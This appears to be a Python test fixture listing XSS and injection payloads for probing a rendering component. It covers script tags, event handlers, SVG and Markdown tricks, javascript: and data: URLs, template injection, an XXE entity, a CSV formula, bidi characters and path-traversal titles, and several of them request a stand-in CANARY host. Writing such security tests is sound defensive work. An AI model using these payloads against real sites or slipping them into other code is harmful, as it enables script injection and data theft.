"""What somebody might put into a pane, its title, its language or its file name to have a script run in the page.

Each would call `window.__canary()` in the page's origin if it ran there, or ask the canary's address for something.
"""

from __future__ import annotations

PAYLOADS = [
    # scripts, however they are written
    "<script>__canary()</script>",
    "<script src=//CANARY/x.js></script>",
    "<ScRiPt>__canary()</sCrIpT>",
    "<script type=module>__canary()</script>",
    "<script>parent.__canary();top.__canary();opener&&opener.__canary()</script>",
    "</script><script>__canary()</script>",
    "<scr\x0bipt>__canary()</scr\x0bipt>",
    "<script/x>__canary()</script/x>",
    "<<script>__canary()//<</script>",
    "<!--><script>__canary()</script>-->",
    "<![CDATA[<script>__canary()</script>]]>",
    "</pre></code></textarea></title></style></iframe><script>__canary()</script>",
    "<noscript><p title='</noscript><script>__canary()</script>'>",
    "<template><script>__canary()</script></template>",
    "<template shadowrootmode=open><script>__canary()</script></template>",
    "<base href=//CANARY/><script src=x.js></script>",
    # events
    "<img src=x onerror=__canary()>",
    "<img src=x onerror\n=\n__canary()>",
    "<img/src=x/onerror=__canary()>",
    "<IMG SRC=x ONERROR=&#95;&#95;canary()>",
    "<img src=//CANARY/pixel.png>",
    "<img srcset='//CANARY/a.png 1x'>",
    "<picture><source srcset=//CANARY/b.png><img src=data:,></picture>",
    "<body onload=__canary() onpageshow=__canary()>",
    "<input autofocus onfocus=__canary()>",
    "<select autofocus onfocus=__canary()>",
    "<details open ontoggle=__canary()>",
    "<video src=x onerror=__canary()>",
    "<audio src=//CANARY/a.mp3 autoplay onerror=__canary()>",
    "<video poster=//CANARY/p.png>",
    "<marquee onstart=__canary()>",
    "<div onpointerover=__canary() style=position:fixed;inset:0>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=__canary()>",
    "<div popover id=p onbeforetoggle=__canary()></div><button popovertarget=p>",
    # frames, objects, links
    "<iframe srcdoc='<script>parent.__canary()</script>'></iframe>",
    "<iframe src=javascript:parent.__canary()></iframe>",
    "<iframe src=//CANARY/frame></iframe>",
    "<object data=//CANARY/o></object>",
    "<embed src=//CANARY/e>",
    "<link rel=stylesheet href=//CANARY/s.css>",
    "<link rel=prefetch href=//CANARY/f>",
    "<link rel=modulepreload href=//CANARY/m.js>",
    "<style>@import '//CANARY/i.css';body{background:url(//CANARY/bg.png)}</style>",
    "<style>@font-face{font-family:x;src:url(//CANARY/f.woff)}*{font-family:x}</style>",
    "<meta http-equiv=refresh content='0;url=//CANARY/r'>",
    "<meta http-equiv=refresh content='0;url=javascript:__canary()'>",
    "<form action=//CANARY/form><button>go</button></form><script>document.forms[0].submit()</script>",
    "<a href=javascript:__canary()>x</a>",
    "<a href=//CANARY/ping ping=//CANARY/ping>x</a>",
    # drawings
    "<svg xmlns='http://www.w3.org/2000/svg' onload='__canary()'></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><script>parent.__canary();__canary()</script></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><image href='http://CANARY/i.png'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><use "
    "xlink:href='http://CANARY/u.svg#x'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><body "
    "xmlns='http://www.w3.org/1999/xhtml' onload='__canary()'><iframe src='http://CANARY/x'/></body></foreignObject></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><style>@import url(http://CANARY/s.css);</style></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><animate onbegin='__canary()' "
    "attributeName='x' dur='1s'/><set onbegin='__canary()'/></svg>",
    "<?xml version='1.0'?><?xml-stylesheet href='http://CANARY/x.xsl' "
    "type='text/xsl'?><!DOCTYPE x [<!ENTITY e SYSTEM 'http://CANARY/e'>]><svg>&e;</svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=__canary()&gt;'>",
    "<math href=javascript:__canary()>x</math>",
    # addresses
    "javascript:__canary()",
    "JaVa\tScRiPt:__canary()",
    "data:text/html,<script>parent.__canary()</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19jYW5hcnkoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='__canary()'/>",
    "http://CANARY/image.png?stolen=1",
    "vbscript:__canary()",
    # Markdown
    "[x](javascript:__canary())",
    "[x](java&#115;cript:__canary())",
    "[x]( java\nscript:__canary() )",
    "[x](data:text/html,<script>__canary()</script>)",
    "[x](http://CANARY/'onmouseover='__canary())",
    "![x](http://CANARY/pixel.png)",
    "![x](javascript:__canary())",
    '![x" onerror="__canary()](x)',
    "<javascript:__canary()>",
    "<http://CANARY/?<script>__canary()</script>>",
    "[x]: javascript:__canary() '\" onmouseover=__canary()'\n\n[x] ![x]",
    "# <img src=x onerror=__canary()>\n\n> <script>__canary()</script>",
    "| <script>__canary()</script> | [a](javascript:__canary()) |\n| "
    "--- | --- |\n| <img src=x onerror=__canary()> | ![b](http://CANARY/b.png) |",
    "```html onload=__canary()\n<script>__canary()</script>\n```",
    "`<script>__canary()</script>` **<img src=x onerror=__canary()>**",
    "- [ ] <svg onload=__canary()>\n1. <iframe srcdoc='<script>parent.__canary()</script>'>",
    # templates, CSV, characters
    "{{constructor.constructor('__canary()')()}}",
    "${__canary()} #{__canary()} <%= __canary() %> {{= __canary() }}",
    'a,b\n=HYPERLINK("http://CANARY/"),<img src=x onerror=__canary()>',
    "\u202e<script>__canary()</script>\u2066 \ufeff\u2028<img src=x onerror=__canary()>",
    "\uff1cscript\uff1e__canary()\uff1c/script\uff1e",
    "&lt;script&gt;__canary()&lt;/script&gt; &#60;script&#62;__canary()&#60;/script&#62;",
    "+ADw-script+AD4-__canary()+ADw-/script+AD4-",
    "__proto__ constructor toString hasOwnProperty",
    "\x1b]8;;http://CANARY/\x07click\x1b]8;;\x07",
]

TITLES = [
    "<img src=x onerror=__canary()>",
    '"><script>__canary()</script>',
    "javascript:__canary()",
    "../../../etc/passwd",
    "..\\..\\x.exe",
    "a\u202egpj.exe",
    "{{constructor.constructor('__canary()')()}}",
    "con",
    "<svg onload=__canary()>.html",
    "x' onmouseover='__canary()",
]

LANGUAGES = ["html", "javascript", "constructor", "__proto__", "toString", "svg", "x-" + "y" * 30]
